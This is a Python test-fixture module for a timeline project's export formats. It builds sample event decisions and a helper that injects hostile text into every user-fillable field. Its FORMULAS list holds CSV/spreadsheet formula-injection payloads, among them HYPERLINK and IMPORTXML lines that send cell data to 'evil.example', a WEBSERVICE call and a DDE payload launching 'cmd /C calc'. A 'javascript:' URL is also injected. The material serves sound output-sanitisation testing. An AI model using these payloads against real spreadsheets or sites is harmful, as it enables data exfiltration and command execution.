"""Exports for tests of the formats: one of every sort of event, and the same with a hostile text in every field."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, timedelta

from tests.build import NOW, article_ref, decision, evidence, fields
from tests.review.hostile import PAYLOADS
from wartracker.config import Settings
from wartracker.debate import Debate, Gate, PartySide, SignificanceLevels
from wartracker.facts import EventDate, LicenseRef, ModelRef, OrgRef
from wartracker.gather import build_export
from wartracker.records import Decision, Fields
from wartracker.timeline.build import build_events
from wartracker.timeline.export import Export
from wartracker.vocabulary import (
    Basis,
    Kind,
    LicenseClass,
    Lifecycle,
    Party,
    Precision,
    Significance,
    Standing,
    Status,
    Tier,
    Verdict,
)

SITE = "https://timeline.example"
SETTINGS = Settings(site_url=SITE)
DEBATE = Debate(
    name="open-weights",
    title="Open Weights & Closed Frontier",
    question="Should weights be downloadable?",
    tagline="One <question>",
    kernel="k",
    since=date(2023, 2, 1),
    curator="ana",
    lifecycle=Lifecycle.ACTIVE,
    standing=Standing.CONTESTED,
    parties=(PartySide("open", "Open & free", "d"), PartySide("closed", "Closed", "d")),
    frontlines=(),
    stakes=(),
    outlook=(),
    interpretations=(),
    open_questions=(),
    kinds=(),
    gate=Gate(keep=0.5, terms=()),
    significance=SignificanceLevels((), 9, 5, 2),
    outputs=("json", "csv", "markdown", "atom", "jsonfeed", "timelinejs", "icalendar"),
)

# What spreadsheets, terminals and feed readers have fallen for, beside the markup of PAYLOADS; written for these tests.
FORMULAS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    '"=1+1',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "a\n=1+1",
    'a";=1+1;"',
    'x","=1+1',
    "\x00=1+1",
)
HOSTILE = (*(text[:2000] for text in PAYLOADS), *FORMULAS)

_FIRST = Tier.FIRST_PARTY


def promised(title: str, due: object, day: date = date(2026, 1, 5), **changes: object) -> Fields:
    return fields(
        title,
        status=Status.PROMISED,
        date=EventDate(day, Precision.DAY, Basis.STATED),
        slots={"expected": due},
        significance=Significance.RECORD,
        **changes,
    )


def rows() -> list[Decision]:
    """One of every sort: revised, merged, withdrawn, vague, spanning, linked, promised and kept."""
    maker = (OrgRef("norvik", "Norvik", "actor"),)
    model = (ModelRef("lantern-3", "Lantern 3", "lantern", "3"),)
    shown: dict[str, Fields] = {
        "cand-1": fields(license=LicenseRef("MIT", "MIT License", LicenseClass.OPEN_SOURCE), party=Party.OPEN),
        "cand-2": fields("Norvik Closes Its Lab", kind=Kind.COMPANY, organizations=maker, models=()),
        "cand-3": fields("Norvik Closes Its Laboratory", kind=Kind.COMPANY, organizations=maker, models=()),
        "cand-4": fields(
            "Quillon Labs Withdraws Ember 1", date=EventDate(date(2026, 1, 1), Precision.YEAR, Basis.STATED)
        ),
        "cand-5": fields(
            "Norvik Reorganizes Itself",
            date=EventDate(date(2025, 10, 1), Precision.QUARTER, Basis.FIRST_REPORT),
            significance=Significance.LANDMARK,
        ),
        "cand-6": fields(
            "Norvik Is in Turmoil",
            date=EventDate(date(2025, 3, 1), Precision.MONTH, Basis.STATED, date(2025, 6, 30)),
            significance=Significance.MAJOR,
            party=Party.CLOSED,
        ),
        "cand-7": promised(
            "Norvik Promises Lantern 3, With Weights; Soon", "2026-03", organizations=maker, models=model
        ),
        "cand-8": promised(
            "Quillon Labs Promises Ember 9", "2026-Q3", models=(ModelRef("ember-9", "Ember 9", "ember", "9"),)
        ),
        "cand-9": promised("Quillon Labs Promises an App", None, models=(), kind=Kind.PRODUCT),
        "cand-10": fields("Norvik Releases Lantern 3", organizations=maker, models=model),
    }
    found = [
        decision(
            f"dec-{place}", Verdict.ACCEPT, name, accession=place, fields=what, decided_at=NOW + timedelta(hours=place),
            sources=(replace(article_ref(f"art-{place}", f"https://wire.example/{place}?a=1&b=2"), tier=_FIRST),),
            evidence=(evidence(f"art-{place}"),),
        )
        for place, (name, what) in enumerate(shown.items(), 1)
    ]  # fmt: skip
    at = NOW + timedelta(days=2)
    raised = replace(shown["cand-1"], significance=Significance.MAJOR)
    return [
        *found,
        decision("dec-20", Verdict.EDIT_ACCEPT, "cand-1", fields=raised, reason="it spread", decided_at=at),
        decision("dec-21", Verdict.MERGE, "cand-3", target="cand-2", decided_at=at),
        decision("dec-22", Verdict.REJECT, "cand-4", reason="a hoax", decided_at=at),
        decision("dec-23", Verdict.LINK, "cand-1", target="cand-6", reason="answers", decided_at=at),
    ]


def make_export(decisions: list[Decision] | None = None, debate: Debate = DEBATE) -> Export:
    return build_export(debate, build_events(rows() if decisions is None else decisions), SETTINGS)


def poison(text: str) -> Export:
    """Put a text into every field of events and debate that a person or a page can fill."""
    poisoned: list[Decision] = []
    for row in rows():
        told = row.fields
        if told is not None:
            told = replace(
                told,
                title=text,
                organizations=(OrgRef(text, text, "actor"),),
                models=(ModelRef(text, text, text, text),),
                license=LicenseRef(text, text, LicenseClass.UNKNOWN, (text,)),
                frontlines=(text,),
                interpretations=(text,),
                slots=dict(told.slots) | {"instrument": text},
            )
        sources = tuple(replace(one, title=text, publisher=text) for one in row.sources)
        sources += tuple(
            replace(article_ref(f"{row.id}-{place}", url), title=text)
            for place, url in enumerate((text, "javascript:window.pwned=1", f"https://x.example/{text}"))
        )
        quotes = tuple(replace(one, quote=text, end=len(text)) for one in row.evidence)
        linking = row.verdict is Verdict.LINK
        poisoned.append(
            replace(
                row, fields=told, sources=sources, evidence=quotes, curator=text, reason=row.reason if linking else text
            )
        )
    side = PartySide("open", text, text)
    debate = replace(DEBATE, title=text, question=text, tagline=text, curator=text, parties=(side,))
    return make_export(poisoned, debate)
